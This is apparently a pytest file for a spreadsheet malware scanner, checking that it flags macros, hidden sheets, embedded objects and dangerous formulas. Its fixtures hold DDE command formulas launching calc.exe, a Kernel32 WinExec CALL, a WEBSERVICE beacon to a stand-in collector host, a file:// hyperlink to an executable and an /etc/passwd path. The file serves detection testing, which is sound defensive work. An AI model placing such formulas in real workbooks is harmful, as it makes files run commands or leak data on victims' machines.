import io
import zipfile

from openpyxl import Workbook
from openpyxl.workbook.defined_name import DefinedName

from artifact_triage.models.results import RiskLevel
from artifact_triage.modules.spreadsheet import _Scan, check_cell, scan_spreadsheet, suspicious_protocol


def _book(build=None):
    wb = Workbook()
    ws = wb.active
    ws.title = "Data"
    ws["A1"] = "Quarterly totals"
    if build:
        build(wb, ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _descriptions(result):
    return [f.description for f in result.findings]


def test_clean_workbook_has_no_findings():
    def build(wb, ws):
        ws["A2"] = 10
        ws["A3"] = 20
        ws["A4"] = "=SUM(A2:A3)"

    result = scan_spreadsheet(_book(build), "clean.xlsx")
    assert result.findings == []
    assert result.sheet_count == 1
    assert result.formula_count == 1
    assert result.risk_score == 0
    assert result.risk_level == RiskLevel.low
    assert result.parse_error is None


def test_dde_payload_is_critical():
    def build(wb, ws):
        ws["A1"] = "=cmd|' /c calc.exe'!A1"

    result = scan_spreadsheet(_book(build), "invoice.xlsx")
    assert result.has_formula_injection is True
    assert result.has_shell_command_pattern is True
    dde = [f for f in result.findings if f.category == "dde_attack"]
    assert len(dde) == 1
    assert dde[0].severity == "critical"
    assert dde[0].location == "Data!A1"
    assert result.risk_level == RiskLevel.critical
    assert result.risk_score == 20


def test_dde_payload_stored_as_plain_text_is_critical():
    def build(wb, ws):
        ws["A1"] = 'cmd|"/c calc.exe"!A1'
        assert ws["A1"].data_type == "s"

    result = scan_spreadsheet(_book(build), "invoice.xlsx")
    assert result.formula_count == 0
    assert result.has_formula_injection is True
    dde = [f for f in result.findings if f.category == "dde_attack"]
    assert len(dde) == 1
    assert dde[0].severity == "critical"
    assert dde[0].location == "Data!A1"
    assert result.risk_level == RiskLevel.critical


def test_hidden_sheet_is_reported():
    def build(wb, ws):
        secret = wb.create_sheet("Secret")
        secret.sheet_state = "hidden"

    result = scan_spreadsheet(_book(build), "book.xlsx")
    assert result.has_hidden_sheets is True
    assert result.sheet_count == 2
    assert "Hidden sheet: Secret (hidden)" in _descriptions(result)
    assert result.risk_score == 5
    assert result.risk_level == RiskLevel.medium


def test_hidden_column_is_reported():
    def build(wb, ws):
        ws["B1"] = "tucked away"
        ws.column_dimensions["B"].hidden = True

    result = scan_spreadsheet(_book(build), "book.xlsx")
    assert result.has_hidden_cell_ranges is True
    assert result.has_hidden_sheets is False
    assert result.risk_score == 3


def test_webservice_call_and_remote_link():
    def build(wb, ws):
        ws["A2"] = '=WEBSERVICE("http://collector.example/beacon")'

    result = scan_spreadsheet(_book(build), "book.xlsx")
    assert "Dangerous function used: WEBSERVICE" in _descriptions(result)
    assert "Suspicious external link: http://" in _descriptions(result)
    assert result.has_external_links is True
    assert result.external_link_count == 1


def test_call_function_is_critical():
    def build(wb, ws):
        ws["A2"] = '=CALL("Kernel32","WinExec","JCJ","calc",0)'

    result = scan_spreadsheet(_book(build), "book.xlsx")
    functions = [f for f in result.findings if f.description == "Dangerous function used: CALL"]
    assert len(functions) == 1
    assert functions[0].severity == "critical"
    assert functions[0].location == "Data!A2"


def test_local_file_hyperlink():
    def build(wb, ws):
        ws["A2"] = "click here"
        ws["A2"].hyperlink = "file:///C:/Windows/System32/calc.exe"

    result = scan_spreadsheet(_book(build), "book.xlsx")
    links = [f for f in result.findings if f.description == "Suspicious hyperlink target: file://"]
    assert len(links) == 1
    assert links[0].severity == "critical"
    assert links[0].location == "Data!A2"
    assert result.has_external_links is True


def test_auto_open_defined_name():
    def build(wb, ws):
        wb.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="Data!$A$1")

    result = scan_spreadsheet(_book(build), "book.xlsx")
    assert "Auto-execution defined name: Auto_Open" in _descriptions(result)
    assert result.risk_level == RiskLevel.high


def test_macro_project_and_embedded_objects():
    data = _book()
    buf = io.BytesIO(data)
    with zipfile.ZipFile(buf, "a") as zf:
        zf.writestr("xl/vbaProject.bin", b"\x00fake vba")
        zf.writestr("xl/embeddings/oleObject1.bin", b"\x00fake ole")
    result = scan_spreadsheet(buf.getvalue(), "book.xlsm")
    assert result.has_macros is True
    assert result.has_embedded_objects is True
    assert result.risk_score == 18
    assert result.risk_level == RiskLevel.critical


def test_unparseable_workbook_degrades_to_medium():
    result = scan_spreadsheet(b"PK\x03\x04 truncated", "book.xlsx")
    assert result.parse_error
    assert result.risk_score == 5
    assert result.risk_level == RiskLevel.medium
    assert len(result.findings) == 1

    mismatched = scan_spreadsheet(b"plain text", "book.xls")
    assert mismatched.parse_error


def test_cell_scan_stops_at_limit():
    def build(wb, ws):
        for row in range(2, 12):
            ws.cell(row=row, column=1, value=f"row {row}")

    result = scan_spreadsheet(_book(build), "book.xlsx", max_cells=3)
    assert [f.category for f in result.findings] == ["scan_limit"]
    assert result.risk_score == 0


def test_cell_rules_fire_once_per_cell():
    scan = _Scan(max_cells=10)
    formula = "=cmd|'/c calc'!A1"
    check_cell(scan, "Data!A1", [formula, formula, "=cmd|'/c notepad'!A1", None, 42])
    result = scan.finish()
    assert [f.category for f in result.findings].count("dde_attack") == 1
    assert [f.category for f in result.findings].count("command_injection") == 1
    assert result.external_link_count == 1


def test_suspicious_protocol_detection():
    assert suspicious_protocol("\\\\server\\share\\x.xls") == "\\\\"
    assert suspicious_protocol("FILE:///etc/passwd") == "file://"
    assert suspicious_protocol("plain text") is None
